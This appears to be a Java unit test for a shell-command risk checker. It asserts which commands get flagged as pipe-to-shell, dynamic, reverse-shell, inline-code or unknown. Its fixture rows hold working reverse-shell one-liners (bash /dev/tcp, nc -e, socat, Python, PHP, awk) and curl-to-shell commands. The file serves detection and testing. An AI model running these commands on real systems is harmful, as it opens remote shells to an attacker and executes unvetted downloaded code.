package dev.cmdguard.rules.execution;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cmdguard.Decision;
import dev.cmdguard.Finding;
import dev.cmdguard.FindingCode;
import dev.cmdguard.Risk;
import dev.cmdguard.rules.RuleTable;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The execution family (docs/rules/execution.md): command → the family's codes, in the corpus
 * context (cwd {@code /home/dev/project}, home {@code /home/dev}, user {@code dev}). Rows with
 * {@code ""} must not fire; there are at least as many of them as rows that fire.
 */
class ExecutionRuleTest {
  private static final FindingCode.Family FAMILY = FindingCode.Family.EXECUTION;

  private static final String PY_REVERSE =
      "python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4444));"
          + "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
          + "subprocess.call([\"/bin/sh\",\"-i\"])'";

  private static final List<String[]> ROWS =
      List.of(
          // PIPE_TO_SHELL
          row("curl -fsSL https://get.example.com | sh", "PIPE_TO_SHELL"),
          row("wget -qO- https://example.com/install.sh | bash", "PIPE_TO_SHELL"),
          row("curl -s https://example.com/i.sh | sudo bash", "PIPE_TO_SHELL"),
          row("curl -s https://example.com/i.sh | sudo -E bash -s -- --yes", "PIPE_TO_SHELL"),
          row("curl https://example.com/x.py | python3", "PIPE_TO_SHELL"),
          row("curl https://example.com/i.sh | tee install.sh | sh", "PIPE_TO_SHELL"),
          row("curl -s https://example.com/i.sh.gz | gunzip | sh", "PIPE_TO_SHELL"),
          row("bash <(curl -s https://example.com/i.sh)", "PIPE_TO_SHELL"),
          row("source <(curl -s https://example.com/env.sh)", "PIPE_TO_SHELL"),
          row(". <(wget -qO- https://example.com/env.sh)", "PIPE_TO_SHELL"),
          row("sh -c \"$(curl -fsSL https://example.com/i.sh)\"", "PIPE_TO_SHELL"),
          row("eval \"$(curl -s https://example.com/i.sh)\"", "PIPE_TO_SHELL"),
          row("base64 -d payload.b64 | sh", "PIPE_TO_SHELL"),
          row("cat payload | base64 --decode | bash", "PIPE_TO_SHELL"),
          row("eval \"$(echo $P | base64 -d)\"", "PIPE_TO_SHELL"),
          row("curl -s https://example.com/i.sh | ssh host bash", "PIPE_TO_SHELL"),
          row(
              "curl -fsSL https://example.com/i.sh -o install.sh && sh install.sh",
              "PIPE_TO_SHELL"),
          row(
              "wget https://example.com/setup.sh && chmod +x setup.sh && ./setup.sh",
              "PIPE_TO_SHELL"),
          row("ruby -e \"$(curl -fsSL https://example.com/install.rb)\"", "PIPE_TO_SHELL"),
          row("python3 < <(curl -s https://example.com/x.py)", "PIPE_TO_SHELL"),
          row("$(curl -s https://example.com/cmd.txt)", "PIPE_TO_SHELL"),
          row("python3 <(curl -s https://example.com/x.py)", "PIPE_TO_SHELL"),
          row("curl -s https://example.com/i.sh > /tmp/i.sh; bash /tmp/i.sh", "PIPE_TO_SHELL"),
          row(
              "curl -s https://example.com/x.py | python3 -c 'import sys; exec(sys.stdin.read())'",
              "DYNAMIC_COMMAND,INTERPRETER_INLINE_CODE,PIPE_TO_SHELL"),
          row("curl -fsSL https://example.com/install.sh -o install.sh", ""),
          row("curl https://api.github.com/repos/o/r", ""),
          row("wget https://example.com/file.tar.gz", ""),
          row("echo 'rm -rf /tmp/x' | sh", ""),
          row("echo 'ZWNobyBoaQo=' | base64 -d | sh", ""),
          row("echo 'curl https://example.com | sh'", ""),
          row("git commit -m 'stop piping curl | sh'", ""),
          row("curl -s https://example.com/data.json | jq .", ""),
          row("curl -s https://example.com/data.json | tee out.json", ""),
          row("base64 -d data.b64 > data.bin", ""),
          row("curl -o install.sh https://example.com/i.sh && less install.sh", ""),
          row("cat <<'EOF' > install.md\ncurl https://example.com | sh\nEOF", ""),
          row("grep -rn 'curl .* | sh' docs/", ""),
          // DYNAMIC_COMMAND
          row("$CMD -rf /", "DYNAMIC_COMMAND"),
          row("eval \"$x\"", "DYNAMIC_COMMAND"),
          row("`which rm` -rf /", ""),
          row("`cat cmd.txt` -rf /", "DYNAMIC_COMMAND"),
          row("bash -c \"$CMD\"", "DYNAMIC_COMMAND"),
          row("bash -c \"rm -rf $DIR\"", "DYNAMIC_COMMAND"),
          row("echo \"$x\" | sh", "DYNAMIC_COMMAND"),
          row("ls | xargs -I{} bash -c {}", "DYNAMIC_COMMAND"),
          row("ssh host \"$REMOTE_CMD\"", "DYNAMIC_COMMAND"),
          row("\"$@\"", "DYNAMIC_COMMAND"),
          row("$(which python3) -m venv .venv", ""),
          row("$(which $TOOL) -m venv .venv", "DYNAMIC_COMMAND"),
          row("python3 -c \"$CODE\"", "DYNAMIC_COMMAND"),
          row("eval \"$(make print-env)\"", "DYNAMIC_COMMAND"),
          row("eval \"$(ssh-agent -s)\"", "DYNAMIC_COMMAND"),
          row("bash <<EOF\n$CMD\nEOF", "DYNAMIC_COMMAND"),
          row("eval 'ls -la'", ""),
          row("CMD=ls; $CMD -la", ""),
          row("bash -c 'echo hi'", ""),
          row("echo \"$CMD\"", ""),
          row("printf '%s\\n' \"$x\"", ""),
          row("export PATH=\"$HOME/bin:$PATH\"", ""),
          row("cd \"$(git rev-parse --show-toplevel)\"", ""),
          row("VERSION=$(cat VERSION) make release", ""),
          // REVERSE_SHELL
          row("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "REVERSE_SHELL"),
          row("sh -i < /dev/tcp/10.0.0.1/4444", "REVERSE_SHELL"),
          row("nc -e /bin/sh 10.0.0.1 4444", "REVERSE_SHELL"),
          row("nc -lvnp 4444 -e /bin/bash", "REVERSE_SHELL"),
          row("ncat --exec /bin/bash 10.0.0.1 4444", "REVERSE_SHELL"),
          row("ncat -c 'bash -i' 10.0.0.1 4444", "REVERSE_SHELL"),
          row(
              "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
              "REVERSE_SHELL"),
          row("socat exec:'bash -li',pty,stderr tcp:10.0.0.1:4444", "REVERSE_SHELL"),
          row("telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445", "REVERSE_SHELL"),
          row(
              "exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
              "REVERSE_SHELL"),
          row("nc -l 4444 | bash", "REVERSE_SHELL"),
          row(
              "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect"
                  + " 10.0.0.1:4444 > /tmp/s",
              "REVERSE_SHELL"),
          row(
              "awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"; while(42) { do{ printf \"shell>\" |& s;"
                  + " s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } }"
                  + " while(c != \"exit\") close(s); }}' /dev/null",
              "REVERSE_SHELL"),
          row(PY_REVERSE, "REVERSE_SHELL"),
          row(
              "php -r '$sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
              "REVERSE_SHELL"),
          row("sudo bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'", "REVERSE_SHELL"),
          row("nc -zv db.internal 5432", ""),
          row("nc -l 8080 > upload.bin", ""),
          row("echo hello | nc 10.0.0.1 1234", ""),
          row("socat TCP-LISTEN:8080,fork TCP:localhost:80", ""),
          row("socat TCP-LISTEN:7000,reuseaddr,fork EXEC:./handler.sh", ""),
          row("socat tcp-connect:10.0.0.1:4444 system:'sh -i'", "REVERSE_SHELL"),
          row("socat - UNIX-CONNECT:/var/run/docker.sock", ""),
          row("echo 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'", ""),
          row("nc -l -p 1500 -c 'echo -e \"HTTP/1.1 200 OK\"'", ""),
          row("exec 3<>/dev/tcp/example.com/80; echo -e 'GET / HTTP/1.0\\n' >&3; cat <&3", ""),
          row("openssl s_client -connect example.com:443 </dev/null", ""),
          row("grep -rn '/dev/tcp' scripts/", ""),
          row("ssh -L 8080:localhost:80 bastion", ""),
          // INTERPRETER_INLINE_CODE
          row(
              "python3 -c \"import importlib; m = importlib.import_module(input()); m.run()\"",
              "INTERPRETER_INLINE_CODE"),
          row("python3 -c 'print(1)'", ""),
          row("node -e 'console.log(1)'", ""),
          row("perl -e 'print 1'", ""),
          row("ruby -e 'puts 1'", ""),
          row("python3 -c 'import socket; print(socket.gethostname())'", ""),
          row("python3 --version", ""),
          row("node --version", ""),
          row("python3 -m pytest -q", ""),
          row("echo 'python3 -c \"print(1)\"'", ""),
          row("pip install requests", ""),
          // UNKNOWN_COMMAND
          row("./deploy.sh", "UNKNOWN_COMMAND"),
          row("./run.sh", "UNKNOWN_COMMAND"),
          row("bash ./deploy.sh", "UNKNOWN_COMMAND"),
          row("source ./env.sh", "UNKNOWN_COMMAND"),
          row("sh < install.sh", "UNKNOWN_COMMAND"),
          row("cat install.sh | sh", "UNKNOWN_COMMAND"),
          row("my-internal-tool --sync", "UNKNOWN_COMMAND"),
          row("find . -name '*.sh' -exec sh {} \\;", "UNKNOWN_COMMAND"),
          row("source \"$NVM_DIR/nvm.sh\"", "UNKNOWN_COMMAND"),
          row("find . -name '*.log' -exec sh -c 'gzip < {} > {}.gz' \\;", "UNKNOWN_COMMAND"),
          row("\"$JAVA_HOME/bin/java\" -version", "UNKNOWN_COMMAND"),
          row("ls -la", ""),
          row("npm install", ""),
          row("mvn -q test", ""),
          row("git status", ""),
          row("make build", ""),
          row("docker ps", ""),
          row("cargo build --release", ""),
          row("./gradlew build", ""),
          row("./mvnw -q verify", ""),
          row("python3.12 -m venv .venv", ""),
          row("kubectl get pods -n dev", ""),
          row("terraform plan", ""),
          row("yarn test", ""),
          row("go test ./...", ""),
          row("rm -rf node_modules", ""),
          row("sudo apt-get install -y jq", ""),
          row("echo $(date)", ""),
          row("tar -czf out.tgz src", ""),
          row("jq '.items[]' data.json", ""),
          row("find . -name '*.tmp' -delete", ""),
          row("brew install ripgrep", ""),
          row("npx prettier --write .", ""),
          row("docker run --rm -it ubuntu bash", ""),
          // look-alikes
          row("curl -sSf https://example.com/health", ""),
          row("wget -qO- https://example.com | grep title", ""),
          row("curl -s https://example.com/i.sh | less", ""),
          row("curl https://example.com/i.sh > install.sh", ""),
          row("shellcheck install.sh", ""),
          row("eval \"echo hi\"", ""),
          row("command -v python3", ""),
          row("type -a node", ""),
          row("ssh host 'uptime'", ""),
          row("ssh host ls /var/log", ""),
          row("python3 manage.py migrate", ""),
          row("node server.js", ""),
          row("sha256sum install.sh", ""),
          row("diff <(sort a.txt) <(sort b.txt)", ""),
          row(
              "gawk 'BEGIN { s = \"/inet/tcp/0/example.com/80\"; print \"GET /\" |& s;"
                  + " s |& getline line; print line }'",
              ""),
          row("curl -s https://example.com/data.json > data.json; jq . data.json", ""),
          row("sh < /tmp/s | nc 10.0.0.1 4444", "UNKNOWN_COMMAND"),
          row("cat notes.txt | nc termbin.com 9999", ""),
          row("python3 <(echo 'print(1)')", "UNKNOWN_COMMAND"),
          row("source <(grep = settings.ini)", "UNKNOWN_COMMAND"),
          row("rsync -av src/ backup/", ""),
          row("npm run build -- --watch", ""),
          row("git diff HEAD~1 -- src/", ""));

  static Stream<Arguments> table() {
    return ROWS.stream().map(r -> Arguments.of(r[0], r[1]));
  }

  @ParameterizedTest(name = "{0} → {1}")
  @MethodSource("table")
  void codes(String command, String expected) {
    assertThat(RuleTable.codes(command, FAMILY)).as(command).isEqualTo(expected);
  }

  @Test
  void atLeastAsManyRowsThatMustNotFire() {
    long quiet = ROWS.stream().filter(r -> r[1].isEmpty()).count();
    assertThat(quiet).isGreaterThanOrEqualTo(ROWS.size() - quiet);
  }

  @Test
  void specExamples() {
    assertThat(RuleTable.evaluate("curl https://example.com/i.sh | sh").risk())
        .isEqualTo(Risk.HIGH);
    assertThat(RuleTable.evaluate("bash <(curl -s https://example.com/i.sh)").risk())
        .isEqualTo(Risk.HIGH);
    assertThat(RuleTable.evaluate("sh -c \"$(curl -fsSL https://example.com/i.sh)\"").risk())
        .isEqualTo(Risk.HIGH);
    assertThat(RuleTable.evaluate("$CMD -rf /").risk()).isEqualTo(Risk.HIGH);
    assertThat(RuleTable.evaluate("./run.sh").risk()).isEqualTo(Risk.MEDIUM);
    assertThat(RuleTable.evaluate("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").risk())
        .isEqualTo(Risk.CRITICAL);
    assertThat(RuleTable.evaluate(PY_REVERSE).risk()).isEqualTo(Risk.CRITICAL);
    assertThat(RuleTable.evaluate("python3 -c 'print(1)'").risk()).isEqualTo(Risk.MEDIUM);
    assertThat(RuleTable.evaluate("echo 'rm -rf /'").risk()).isEqualTo(Risk.LOW);
  }

  @Test
  void shellSetUpGeneratorsAreMedium() {
    for (String c :
        List.of(
            "eval \"$(ssh-agent -s)\"",
            "eval \"$(direnv hook bash)\"",
            "eval \"$(pyenv init -)\"",
            "source <(kubectl completion bash)")) {
      assertThat(RuleTable.evaluate(c).risk()).as(c).isEqualTo(Risk.MEDIUM);
    }
  }

  @Test
  void pipeToShellNamesTheDownloaderAndSuggestsReadingFirst() {
    Finding f = only("curl -fsSL https://get.example.com | sh", FindingCode.PIPE_TO_SHELL);
    assertThat(f.message()).isEqualTo("sh runs code downloaded by curl, unseen by the guard");
    assertThat(f.saferAlternative()).hasValueSatisfying(s -> assertThat(s).contains("less"));
  }

  @Test
  void dynamicCommandPointsAtTheRunTimeName() {
    String c = "$CMD -rf /";
    Finding f = only(c, FindingCode.DYNAMIC_COMMAND);
    assertThat(c.substring(f.span().start(), f.span().end())).isEqualTo("$CMD");
    assertThat(f.message()).isEqualTo("the command name $CMD is only known at run time");
    assertThat(f.saferAlternative()).hasValue("write the command out so that it can be checked");
  }

  @Test
  void processSubstitutionSpan() {
    String c = "bash <(curl -s https://example.com/i.sh)";
    Finding f = only(c, FindingCode.PIPE_TO_SHELL);
    assertThat(c.substring(f.span().start(), f.span().end()))
        .isEqualTo("<(curl -s https://example.com/i.sh)");
  }

  @Test
  void reverseShellIsLockedCritical() {
    Finding f = only("nc -e /bin/sh 10.0.0.1 4444", FindingCode.REVERSE_SHELL);
    assertThat(f.severity()).isEqualTo(Risk.CRITICAL);
    assertThat(f.message()).contains("/bin/sh").contains("remote machine");
  }

  @Test
  void unknownProgramsOncePerProgram() {
    assertThat(findings("my-tool a && my-tool b && other-tool", FindingCode.UNKNOWN_COMMAND))
        .extracting(Finding::message)
        .containsExactly(
            "my-tool is a program cmdguard does not know",
            "other-tool is a program cmdguard does not know");
    assertThat(only("./deploy.sh", FindingCode.UNKNOWN_COMMAND).message())
        .isEqualTo("./deploy.sh is a local program whose code is not analysed");
  }

  @Test
  void codeTextCommandWords() {
    assertThat(CodeText.commandWords("cd {} && git pull; X=1 sudo make install | tee log"))
        .containsExactly("cd", "git", "make", "tee");
    assertThat(CodeText.commandWords("echo $(find {} | wc -l) {}"))
        .containsExactly("echo", "find", "wc");
    assertThat(CodeText.commandWords("case {} in *.gz) ;; *) gzip '{}' ;; esac"))
        .containsExactly("case", "gzip", "esac");
    assertThat(CodeText.commandWords("unzip -d `dirname {}` {}"))
        .containsExactly("unzip", "dirname");
    assertThat(CodeText.commandWords("> out.txt sort")).containsExactly("sort");
    assertThat(CodeText.commandWords("'rm' -rf {}; \"mv\" a b")).containsExactly("rm", "mv");
    assertThat(CodeText.judge("cd {} && rm -rf build").verdict())
        .isEqualTo(CodeText.Verdict.DANGEROUS);
    assertThat(CodeText.judge("$TOOL --fix {}").verdict()).isEqualTo(CodeText.Verdict.DYNAMIC);
    assertThat(CodeText.judge("gzip -9 {}").verdict()).isEqualTo(CodeText.Verdict.PLAIN);
    assertThat(CodeText.judge("$JAVA_HOME/bin/java -jar {}").verdict())
        .isEqualTo(CodeText.Verdict.PLAIN);
  }

  private static Finding only(String command, FindingCode code) {
    List<Finding> list = findings(command, code);
    assertThat(list).as(command).hasSize(1);
    return list.get(0);
  }

  private static List<Finding> findings(String command, FindingCode code) {
    Decision d = RuleTable.evaluate(command);
    return d.findings().stream().filter(f -> f.code() == code).toList();
  }

  private static String[] row(String command, String codes) {
    return new String[] {command, codes};
  }
}
